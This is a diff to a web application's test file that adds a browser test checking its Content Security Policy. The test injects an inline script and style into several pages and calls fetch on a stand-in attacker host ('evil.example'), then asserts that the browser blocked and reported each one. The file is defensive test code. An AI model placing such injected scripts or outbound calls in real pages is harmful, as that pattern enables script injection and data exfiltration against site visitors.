@@ -42,3 +42,20 @@ async def test_the_home_page_leads_to_what_is_there(screens: Screens) -> None:
         assert link is not None
         answer = await page.request.get(link)
         assert answer.ok, link
+
+
+async def test_what_gets_into_a_page_neither_runs_nor_sends_anything_out(screens: Screens) -> None:
+    page = await screens.page()
+    for path in ("/", "/kitchen", "/schema"):
+        await page.goto(path)
+        await page.evaluate(
+            """async () => {
+                const script = Object.assign(document.createElement("script"), { textContent: "window.ran = true" })
+                document.body.append(script, Object.assign(document.createElement("style"), { textContent: "a{}" }))
+                await fetch("https://evil.example/").catch(() => {})
+            }"""
+        )
+        assert await page.evaluate("window.ran") is None
+        for directive in ("script-src-elem", "style-src-elem", "connect-src"):
+            assert any(f"policy: {directive}" in fault for fault in screens.faults), screens.faults
+        screens.faults.clear()
